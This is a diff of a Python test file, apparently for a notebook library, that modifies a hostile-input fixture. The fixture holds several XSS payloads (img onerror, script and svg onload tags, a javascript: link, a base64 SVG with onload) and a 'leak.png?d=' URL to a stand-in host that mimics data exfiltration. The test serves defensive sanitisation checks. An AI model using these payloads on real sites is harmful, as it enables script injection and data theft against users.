@@ -415,7 +415,7 @@ def test_a_reloaded_page_shows_the_live_table_again(lab: Lab) -> None:
 HOSTILE = """
 import nbturns as nt
 from nbturns.results import INFERENCE_RESULT
-EVIL = "<img src=x onerror='window.hacked=1'><script>window.hacked=1</script><svg onload='window.hacked=1'>[x](javascript:window.hacked=1) \\u202e$x$ https://192.0.2.1/"
+EVIL = "<img src=x onerror='window.hacked=1'><script>window.hacked=1</script><svg onload='window.hacked=1'>[x](javascript:window.hacked=1) \\u202e$x$ https://192.0.2.1/\\ud83d"
 PIXEL = {"media_type": "image/svg+xml", "content": "PHN2ZyBvbmxvYWQ9IndpbmRvdy5oYWNrZWQ9MSI+PC9zdmc+"}
 remote = {"url": "http://192.0.2.1/leak.png?d=" + EVIL}
 told = nt.InferenceResult(provider=EVIL, model=EVIL, stop_reason=EVIL, inference_id=EVIL)
